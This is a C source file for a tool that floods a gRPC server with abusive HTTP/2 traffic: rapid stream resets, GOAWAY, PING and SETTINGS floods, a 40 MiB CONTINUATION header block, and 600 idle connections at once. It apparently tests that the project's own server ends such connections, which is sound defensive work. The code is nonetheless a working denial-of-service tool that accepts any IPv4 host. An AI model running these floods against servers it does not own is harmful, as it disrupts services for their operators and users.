/* A client that floods a gRPC server with frames of HTTP/2 that no honest client sends. It connects again whenever the
 * server ends its connection. No step must be fast: the server gets what it must refuse in one piece.
 *
 *     hostile_frames 127.0.0.1:2222 resets 2 60  until the server has ended 2 connections; fails after 60 s. It prints
 *                                                "2 connections were ended, 1400 frames"
 *     hostile_frames - resets 1 60               writes the frames of one connection to standard output, until it is
 *                                                closed or for 60 s
 *
 * resets: a call and its reset, again and again. goaways: GOAWAY. headers: one header block of 40 MiB. pings,
 * settings. connects: 600 connections at a time that send nothing but their preface; it prints "all are open", and the
 * server may be held until then.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "base/buf.h"
#include "base/clock.h"
#include "base/err.h"
#include "base/mem.h"
#include "base/str.h"
#include "net/address.h"

static const char PREFACE[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/* HPACK. The first block names a method of the ps; the later ones repeat it from the table. */
static const char FIRST_BLOCK[] = "\x83\x86\x44\x21/trainyard.v1.Parameters/Describe\x41\x01"
                                  "x\x5f\x10"
                                  "application/grpc\x40\x02te\x08trailers",
                  NEXT_BLOCK[] = "\x83\x86\xC1\xC0\xBF\xBE";
enum { HEADERS = 1, RST_STREAM = 3, SETTINGS = 4, PING = 6, GOAWAY = 7, CONTINUATION = 9 };
enum {
    END_HEADERS = 4,
    AT_ONCE = 2000,
    BLOCK_SIZE = 40 << 20,
    PIECE_SIZE = 16 << 10,
    CONNECTIONS = 600,
    ROUND_MS = 10000
};

struct flood {
    struct buf out;
    uint32_t stream; /* of the next call */
    long frames;
    size_t block; /* bytes of the header block so far */
};

static void put_frame(struct flood *f, uint8_t kind, uint8_t flags, uint32_t stream, const void *payload, size_t n)
{
    const uint8_t header[] = {
        (uint8_t)(n >> 16),      (uint8_t)(n >> 8),      (uint8_t)n,     kind, flags, (uint8_t)(stream >> 24),
        (uint8_t)(stream >> 16), (uint8_t)(stream >> 8), (uint8_t)stream
    };
    buf_add(&f->out, header, sizeof(header));
    buf_add(&f->out, payload, n);
    f->frames++;
}

static void put_reset(struct flood *f)
{
    bool first = f->stream == 1;
    put_frame(f, HEADERS, END_HEADERS, f->stream, first ? FIRST_BLOCK : NEXT_BLOCK,
              first ? sizeof(FIRST_BLOCK) - 1 : sizeof(NEXT_BLOCK) - 1);
    put_frame(f, RST_STREAM, 0, f->stream, "\0\0\0\x08", 4);
    f->stream += 2;
}

static void put_goaway(struct flood *f)
{
    put_frame(f, GOAWAY, 0, 0, "\0\0\0\0\0\0\0\0", 8);
}

static void put_header_piece(struct flood *f)
{
    static const char piece[PIECE_SIZE];
    if (f->block == 0)
        put_frame(f, HEADERS, 0, 1, FIRST_BLOCK, sizeof(FIRST_BLOCK) - 1);
    /* a name of 40 MiB, which the pieces continue: its length as HPACK's integer of 7 bits with a prefix */
    if (f->block == 0)
        put_frame(f, CONTINUATION, 0, 1, "\x00\x7f\x81\xff\xff\x13", 6);
    put_frame(f, CONTINUATION, f->block >= BLOCK_SIZE ? END_HEADERS : 0, 1, piece, sizeof(piece));
    f->block += sizeof(piece);
}

static void put_ping(struct flood *f)
{
    put_frame(f, PING, 0, 0, "trainyrd", 8);
}

static void put_settings(struct flood *f)
{
    put_frame(f, SETTINGS, 0, 0, "", 0);
}

static const struct mode {
    const char *name;
    void (*put)(struct flood *f);
    int at_once;
} MODES[] = {
    { "resets", put_reset, AT_ONCE }, { "goaways", put_goaway, AT_ONCE },    { "headers", put_header_piece, 16 },
    { "pings", put_ping, AT_ONCE },   { "settings", put_settings, AT_ONCE }, { "connects", NULL, 0 },
};

static void begin(struct flood *f)
{
    buf_clear(&f->out);
    f->stream = 1;
    f->block = 0;
    buf_str(&f->out, PREFACE);
    put_frame(f, SETTINGS, 0, 0, "", 0);
}

/* What the server sends is of no interest. */
static bool drain(int fd)
{
    char unused[65536];
    ssize_t n;
    do
        n = recv(fd, unused, sizeof(unused), MSG_DONTWAIT);
    while (n > 0);
    return n < 0 && (errno == EAGAIN || errno == EINTR);
}

static bool put_out(int fd, const struct buf *b, bool is_socket, int64_t until_ms)
{
    for (size_t at = 0; at < b->len && clock_ms() < until_ms;) {
        if (is_socket && !drain(fd))
            return false;
        struct pollfd p = { .fd = fd, .events = POLLOUT };
        if (poll(&p, 1, 100) <= 0)
            continue;
        ssize_t n = write(fd, b->data + at, MIN(b->len - at, (size_t)65536));
        if (n < 0 && errno != EAGAIN && errno != EINTR)
            return false;
        at += n > 0 ? (size_t)n : 0;
    }
    return true;
}

/* Until the connection or the time ends. True: the other side has ended it. */
static bool flood(struct flood *f, const struct mode *mode, int fd, bool is_socket, int64_t until_ms)
{
    begin(f);
    while (put_out(fd, &f->out, is_socket, until_ms)) {
        if (clock_ms() >= until_ms || (mode->put == put_header_piece && f->block > BLOCK_SIZE))
            return false;
        buf_clear(&f->out);
        for (int i = 0; i < mode->at_once; i++)
            mode->put(f);
    }
    return true;
}

static int connect_to(const char *target, int *ret, struct err *e)
{
    AUTO_FINI(address) a = { 0 };
    struct sockaddr_in to = { .sin_family = AF_INET };
    if (address_parse(target, &a, e) < 0)
        return -1;
    to.sin_port = htons(a.port);
    if (inet_pton(AF_INET, a.host, &to.sin_addr) != 1)
        return err_set(e, ERR_INPUT, "'%s' is not an IPv4 address", a.host);
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (fd < 0 || (connect(fd, (const struct sockaddr *)&to, sizeof(to)) < 0 && errno != ECONNRESET))
        return err_errno(e, ERR_LOST, "%s", target);
    (void)!fcntl(fd, F_SETFL, O_NONBLOCK);
    *ret = fd;
    return 0;
}

/* Many connections, which are all there before the first one is looked at. How many of them the server has ended. */
static int connect_many(const char *target, struct flood *f, int wanted, int64_t until_ms, struct err *e)
{
    int fd[CONNECTIONS], n = 0, ended = 0;
    begin(f);
    while (n < CONNECTIONS && connect_to(target, &fd[n], e) == 0)
        (void)!write(fd[n++], f->out.data, f->out.len);
    printf("all are open\n");
    (void)fflush(stdout);
    for (int64_t until = MIN(until_ms, clock_ms() + ROUND_MS); ended < wanted && clock_ms() < until;
         clock_sleep_ms(2)) {
        ended = 0;
        for (int i = 0; i < n; i++)
            ended += !drain(fd[i]);
    }
    for (int i = 0; i < n; i++)
        close(fd[i]);
    return n == CONNECTIONS ? ended : -1;
}

static int run(const char *target, const struct mode *mode, int64_t wanted, int64_t seconds, struct err *e)
{
    struct flood f = { .out = BUF_INIT };
    int64_t until = clock_ms() + seconds * 1000;
    int ended = 0;
    if (str_eq(target, "-")) {
        flood(&f, mode, STDOUT_FILENO, false, until);
        buf_fini(&f.out);
        return 0;
    }
    while (ended < wanted && clock_ms() < until) {
        int fd, n;
        if (mode->put == NULL) {
            if ((n = connect_many(target, &f, (int)wanted, until, e)) < 0)
                break;
            ended += n;
        } else {
            if (connect_to(target, &fd, e) < 0)
                break;
            ended += flood(&f, mode, fd, true, until);
            close(fd);
        }
    }
    printf("%d connections were ended, %ld frames\n", ended, f.frames);
    buf_fini(&f.out);
    if (ended < wanted && e->code == ERR_NONE)
        return err_set(e, ERR_TIMEOUT, "the server has ended %d connections in %lld s", ended, (long long)seconds);
    return ended >= wanted ? 0 : -1;
}

int main(int argc, char **argv)
{
    struct err e = { .code = ERR_NONE };
    int64_t ended, seconds;
    signal(SIGPIPE, SIG_IGN);
    for (size_t i = 0; argc == 5 && i < COUNT_OF(MODES); i++) {
        if (!str_eq(argv[2], MODES[i].name))
            continue;
        if (str_i64(argv[3], 1, CONNECTIONS / 10, &ended, &e) == 0 && str_i64(argv[4], 1, 3600, &seconds, &e) == 0 &&
            run(argv[1], &MODES[i], ended, seconds, &e) == 0)
            return 0;
        fprintf(stderr, "hostile_frames: %s\n", e.msg);
        return 1;
    }
    fprintf(stderr,
            "usage: hostile_frames HOST:PORT|- resets|goaways|headers|pings|settings|connects CONNECTIONS SECONDS\n");
    return 2;
}
